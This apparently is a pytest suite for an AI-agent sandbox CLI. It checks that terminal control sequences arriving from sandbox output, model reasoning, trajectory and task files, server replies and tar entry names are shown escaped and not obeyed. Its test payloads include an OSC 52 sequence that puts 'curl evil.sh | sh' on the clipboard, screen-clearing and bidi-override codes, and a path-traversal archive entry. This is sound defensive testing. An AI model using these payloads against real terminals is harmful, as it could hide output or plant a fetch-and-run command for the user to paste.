"""The attack battery, the user's terminal: what a jail, a model, a trajectory or tasks file, an image or a
server chose reaches the terminal shown, never obeyed.

Each hostile text carries the sequences that take a terminal over: OSC 52 (sets the clipboard), OSC 0
(the window title), ``ESC[2J ESC[H`` (clears the screen, hiding what came before), CSI as the 8-bit C1
``\\x9b``, a colour, a backspace, a lone carriage return, DEL and the bidi override U+202E. The commands
run as a user runs them, in a pseudo-terminal where they would draw on one (click strips some sequences
from a pipe, a terminal gets everything), against real jails and the scripted model server on loopback.
"""

from __future__ import annotations

import io
import json
import os
import pty
import re
import socket
import subprocess
import tarfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from support.batch_tasks import ROOT, bench_command
from support.cli import JAILBOX
from support.llm_server import ScriptedServer, Step, reply

from jailbox.agent.progress import REDRAW, Progress
from jailbox.agent.tasks import Task, TaskResult
from jailbox.agent.trajectory import load as load_trajectory
from jailbox.sandbox import printable

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # "curl evil.sh | sh" onto the clipboard
HOSTILE = f"A{CLIPBOARD}B\x1b]0;pwned\x07C\x1b[2J\x1b[HD\x9b2JE\x1b[5;31mF\x08G\rH\x7fI\u202eJ"
SHOWN = [r"\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", r"\x1b]0;pwned\x07", r"\x1b[2J\x1b[H", r"\x9b2J", r"\u202e"]
# what a terminal would obey: every C0 control but newline and tab, DEL, C1, the bidi controls
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
OWN_STYLES = re.compile(r"\x1b\[(?:0|1|2|33|36)m")  # jailbox's own (click.style): reset, bold, dim, yellow, cyan


def obeyed(screen: str) -> list[str]:
    """The controls on ``screen`` a terminal would act on, jailbox's own styles and line ends apart."""
    return OBEYED.findall(OWN_STYLES.sub("", screen.replace("\r\n", "\n")))


def on_a_terminal(argv: list[str], env: dict[str, str] | None = None, timeout: float = 300) -> tuple[int, str]:
    """Run ``argv`` with a pseudo-terminal as stdin, stdout and stderr: its exit code and all it wrote."""
    master, slave = pty.openpty()
    proc = subprocess.Popen(
        argv, cwd=ROOT, stdin=slave, stdout=slave, stderr=slave, env={**os.environ, "TERM": "xterm", **(env or {})}
    )
    os.close(slave)
    chunks = []
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:  # EIO: the child side closed
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(master)
    return proc.wait(timeout=timeout), b"".join(chunks).decode(errors="replace")


def shell_printf(text: str) -> str:
    """A ``printf`` that writes ``text``'s UTF-8 bytes, every one an octal escape (no quoting to get wrong)."""
    return "printf '" + "".join(f"\\{byte:03o}" for byte in text.encode()) + "'"


def call(name: str, arguments: dict) -> dict:
    return {"id": f"c{name[:4]}", "type": "function", "function": {"name": name, "arguments": json.dumps(arguments)}}


def run_flags(server: ScriptedServer, out: Path) -> list[str]:
    return [
        "run",
        "--query",
        "look",
        "--network",
        "none",
        "--llm_name",
        "m",
        "--llm_base_url",
        server.url,
        "--api_key",
        "k",
        "--output_dir",
        str(out),
    ]


def test_the_printable_text_of_each_control() -> None:
    assert printable(HOSTILE) == (
        r"A\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07B\x1b]0;pwned\x07C\x1b[2J\x1b[HD\x9b2JE\x1b[5;31mF\x08G\x0dH\x7fI"
        r"\u202eJ"
    )
    assert printable("a\tb\nc\r\nd\x00\x0b\x0c\u2066\u200f\ud800") == "a\tb\nc\r\nd\\x00\\x0b\\x0c\\u2066\\u200f\\ud800"
    assert printable("a\tb\nc\r\nd", line=True) == r"a\x09b\x0ac\x0d\x0ad"
    assert (
        printable("plain, ünïcödé, 中文, emoji 👍, a \\ backslash") == "plain, ünïcödé, 中文, emoji 👍, a \\ backslash"
    )
    assert printable(printable(HOSTILE)) == printable(HOSTILE)  # a backslash is never escaped: idempotent
    assert obeyed(printable(HOSTILE)) == [] and len(obeyed(HOSTILE)) == 12


def test_jailbox_run_shows_what_the_jail_and_the_model_chose_escaped(tmp_path: Path, store: object) -> None:
    """The jail's output (in the observation and the answer), the model's reasoning and the name of a
    tool it made up reach the terminal escaped; the record keeps them exact."""
    command = f"{shell_printf(HOSTILE)}; {shell_printf(HOSTILE)} > /testbed/output/answer.txt"
    steps = [
        reply(None, reasoning_content=HOSTILE, tool_calls=[call("execute_bash", {"command": command})]),
        reply(None, tool_calls=[call(f"ls{CLIPBOARD}\x1b[2J", {"path": HOSTILE})]),
        reply(None, tool_calls=[call("submit", {})]),
    ]
    with ScriptedServer(steps) as server:
        code, screen = on_a_terminal([*JAILBOX, *run_flags(server, tmp_path / "out")])
    assert code == 0, screen
    assert obeyed(screen) == [], screen
    for shown in SHOWN:
        assert screen.count(shown) >= 3, (shown, screen)  # the reasoning, the observation, the made-up tool
    assert "answer='A\\x1b]52;c;" in screen  # the summary quotes the answer
    [run] = (tmp_path / "out").iterdir()
    recorded = load_trajectory(run / "trajectory.json")
    assert recorded.steps[0].reasoning == HOSTILE
    assert CLIPBOARD in recorded.steps[0].observations[0]
    assert recorded.steps[1].actions[0].function == f"ls{CLIPBOARD}\x1b[2J"


def test_jailbox_run_shows_a_servers_error_escaped(tmp_path: Path, store: object) -> None:
    """What an endpoint says when it fails (a body that is not JSON, whose encoder would escape it) reaches
    the retry line and the final error escaped."""
    with ScriptedServer([Step(status=500, raw=HOSTILE.encode()), Step(status=400, raw=HOSTILE.encode())]) as server:
        code, screen = on_a_terminal([*JAILBOX, *run_flags(server, tmp_path / "out"), "--llm-max-retries", "1"])
    assert code == 1, screen
    assert "LLM request failed" in screen and "llm_error" in screen, screen
    assert obeyed(screen) == [], screen
    assert screen.count(r"\x1b]52;c;") >= 2, screen


def trajectory(path: Path, steps: list[tuple[str, dict, str]]) -> Path:
    raw = [{"action": {"function": f, "parameters": p}, "observation": o} for f, p, o in steps]
    path.write_text(json.dumps({"problem_statement": "", "steps": raw}))
    return path


def test_jailbox_replay_shows_a_trajectorys_actions_and_the_jails_output_escaped(tmp_path: Path, store: object) -> None:
    """A trajectory file is data: its actions and recorded observations, its own name and what its
    commands print now reach the terminal escaped."""
    hostile = trajectory(
        tmp_path / f"t{CLIPBOARD}\u202e.json",
        [
            ("execute_bash", {"command": f"{shell_printf(HOSTILE)} # {HOSTILE}"}, f"recorded {HOSTILE}\n"),
            (f"view{CLIPBOARD}", {"path": f"/{HOSTILE}"}, "x"),
        ],
    )
    plain = trajectory(tmp_path / "plain.json", [("execute_bash", {"command": "true"}, "(no output)")])
    code, screen = on_a_terminal([*JAILBOX, "replay", "--network", "none", str(hostile), str(plain)])
    assert code == 1, screen
    assert "differs" in screen and "1 same, 2 differ" in screen, screen
    assert obeyed(screen) == [], screen
    assert screen.count(r"\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07") >= 4, screen  # name, action, diff both ways
    assert r"\x1b[2J\x1b[H" in screen and r"\u202e" in screen


def test_jailbox_bench_shows_task_ids_and_domains_escaped(tmp_path: Path, store: object) -> None:
    """A tasks file is data: its ids in the progress lines and its domains in the summary are escaped."""
    tasks = tmp_path / "tasks.jsonl"
    task = {"id": f"t{HOSTILE}", "query": "q", "answer": "x", "scorer": "exact", "domain": f"d{CLIPBOARD}"}
    tasks.write_text(json.dumps(task) + "\n")
    with ScriptedServer(responder=lambda _request: reply(None, tool_calls=[call("submit", {})])) as server:
        r = subprocess.run(
            bench_command(tasks, server.url, tmp_path / "out"), cwd=ROOT, capture_output=True, text=True, timeout=300
        )
    assert r.returncode == 0, r.stderr
    assert obeyed(r.stdout + r.stderr) == [], r.stdout
    assert f"t{printable(HOSTILE, line=True)}: submitted" in r.stdout
    assert f"| d{printable(CLIPBOARD)} |" in r.stdout
    assert json.loads((tmp_path / "out" / "results.jsonl").read_text().splitlines()[0])["id"] == f"t{HOSTILE}"


def test_the_live_display_shows_task_ids_escaped_on_one_line_each() -> None:
    """On a terminal the region is redrawn by moving up as many lines as it drew: an id with a newline
    (or any control) must stay one line of it, and obey nothing."""
    stream = io.StringIO()
    hostile = f"t\n{HOSTILE}"
    with Progress(2, stream, tty=True) as progress:
        progress.started(Task(id=hostile, query="q"))
        progress.stepped(hostile, 3, 10)
        time.sleep(4 * REDRAW)  # the region is drawn with the task running
        progress.finished(TaskResult(id=hostile, domain="d", mode="sandbox", exit_status="submitted", steps=3))
    screen = stream.getvalue().removeprefix("\r")  # the first draw starts at the line's start
    own = re.compile(r"\x1b\[(?:\d+F|2K|J)")  # the region's own moves: up N lines, clear a line, clear below
    assert obeyed(own.sub("", screen)) == [], screen
    assert "\x1b[2K  t\\x0aA\\x1b]52;c;" in screen  # a running task's line (cut to the width)
    assert f"{printable(hostile, line=True)}: submitted" in screen


@pytest.fixture
def raw_peer() -> Iterator[str]:
    """A server on loopback that answers every request with a status line of escapes, not HTTP."""
    listener = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            with conn:
                conn.recv(65536)
                conn.sendall(f"{CLIPBOARD} 200 OK\r\n\r\n".encode())

    threading.Thread(target=serve, daemon=True).start()
    yield f"http://127.0.0.1:{listener.getsockname()[1]}"
    listener.close()


def test_a_servers_malformed_reply_is_one_escaped_line(raw_peer: str) -> None:
    env = {"E2B_API_KEY": "k" * 32, "XDG_CONFIG_HOME": "/nonexistent"}
    code, screen = on_a_terminal([*JAILBOX, "ps", "--server", raw_peer], env=env)
    assert code == 1, screen
    assert obeyed(screen) == [], screen
    [line] = screen.strip().splitlines()
    assert line.startswith(f"jailbox: --server {raw_peer}: ") and r"\x1b]52;c;" in line, line


def test_an_images_names_in_an_error_are_escaped(tmp_path: Path, store: object) -> None:
    """An archive's entry names, quoted in the error that refuses it, reach the terminal escaped."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        entry = tarfile.TarInfo(f"{CLIPBOARD}\x1b[2J/../../x")
        tar.addfile(entry, io.BytesIO(b""))
    archive = tmp_path / "evil.tar"
    archive.write_bytes(buffer.getvalue())
    code, screen = on_a_terminal([*JAILBOX, "rootfs", "import", str(archive), "evil"])
    assert code == 1, screen
    assert obeyed(screen) == [], screen
    assert r"\x1b]52;c;" in screen and r"\x1b[2J" in screen, screen
